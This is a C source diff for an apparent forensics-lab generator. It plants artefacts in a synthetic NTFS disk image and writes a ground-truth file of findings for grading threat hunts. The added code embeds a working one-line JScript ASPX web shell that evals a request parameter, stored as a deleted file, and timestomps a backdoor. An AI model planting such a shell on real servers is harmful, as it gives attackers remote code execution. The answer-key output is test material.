@@ -1,4 +1,5 @@
 #include "lab/host.h"
+#include "lab/ntfs_image.h"
 #include "base/err.h"
 #include "base/log.h"
 #include "base/rng.h"
@@ -724,8 +725,41 @@ static void sc_returned_later(struct gen *g)
 	winhost_returned(g->win);
 }
 
+/* What the image of a compromised tree adds: a second shell the attacker
+ * deleted (its MFT entry stays, with its bytes: small files live in the
+ * entry) and the first script back door's creation time set back. A
+ * clean tree gets neither (it must stay clean). */
+static void image_extras(struct gen *g, struct image_extra *x)
+{
+	static char deleted[160];
+	static const char one_liner[] =
+	    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],"
+	    "\"unsafe\");%>";
+	int i;
+
+	memset(x, 0, sizeof *x);
+	if (!g->nbackdoors)
+		return;
+	snprintf(deleted, sizeof deleted,
+	         "inetpub/wwwroot/aspnet_client/system_web/%08llx.aspx",
+	         (unsigned long long)(rng_next(&g->r) & 0xffffffffull));
+	x->deleted_path = deleted;
+	x->deleted_text = one_liner;
+	for (i = 0; i < g->nbackdoors; i++) {
+		const char *b = g->backdoors[i];
+		size_t n = strlen(b);
+		if (n > 5 && (!strcmp(b + n - 5, ".aspx") ||
+		              !strcmp(b + n - 5, ".ashx"))) {
+			x->stomped_path = b;
+			x->stomped_to = 1468670400; /* 2016-07-16 */
+			break;
+		}
+	}
+}
+
 int lab_host_write(const struct host_opts *o, const char *truth_path)
 {
+	struct image_extra x;
 	struct gen g;
 	struct view list = view_of(o->scenarios), item;
 	FILE *t;
@@ -844,6 +878,12 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 		winhost_free(g.win);
 		return g.failed == 2 ? EXIT_USAGE : EXIT_RUNTIME;
 	}
+	if (o->image)
+		image_extras(&g, &x);
+	if (o->image && lab_image_write(o->dir, o->image, &x)) {
+		winhost_free(g.win);
+		return EXIT_RUNTIME;
+	}
 	t = fopen(truth_path, "w");
 	if (!t) {
 		log_error("%s: %s", truth_path, strerror(errno));
@@ -859,7 +899,17 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 	for (i = 0; i < g.nbackdoors; i++)
 		fprintf(t, "%s\"%s\"", i ? "," : "", g.backdoors[i]);
 	/* the ways back in a hunt must list (finding kinds, high or worse) */
-	fprintf(t, "],\"persistence\":[%s]}\n", winhost_persistence(g.win));
+	fprintf(t, "],\"persistence\":[%s]", winhost_persistence(g.win));
+	/* what the image shows beyond the folder (finding kinds by path) */
+	fprintf(t, ",\"image_only\":[");
+	if (o->image && x.deleted_path)
+		fprintf(t, "{\"kind\":\"deleted-script\",\"path\":\"%s\"},"
+		           "{\"kind\":\"webshell\",\"path\":\"%s\"}",
+		        x.deleted_path, x.deleted_path);
+	if (o->image && x.stomped_path)
+		fprintf(t, "%s{\"kind\":\"timestomped\",\"path\":\"%s\"}",
+		        x.deleted_path ? "," : "", x.stomped_path);
+	fprintf(t, "]}\n");
 	winhost_free(g.win);
 	return fclose(t) ? EXIT_RUNTIME : 0;
 }
